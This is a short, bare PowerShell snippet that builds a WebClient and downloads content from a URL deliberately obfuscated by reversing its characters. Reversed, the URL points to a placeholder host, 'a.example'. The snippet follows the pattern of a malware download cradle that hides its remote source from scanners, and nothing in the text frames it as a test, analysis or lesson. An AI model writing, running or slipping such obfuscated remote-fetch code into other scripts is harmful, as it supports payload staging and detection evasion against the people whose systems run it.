$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join ([regex]::Matches('txt.x/p/elpmaxe.a//:ptth','.','RightToLeft') | ForEach-Object {$_.Value})))
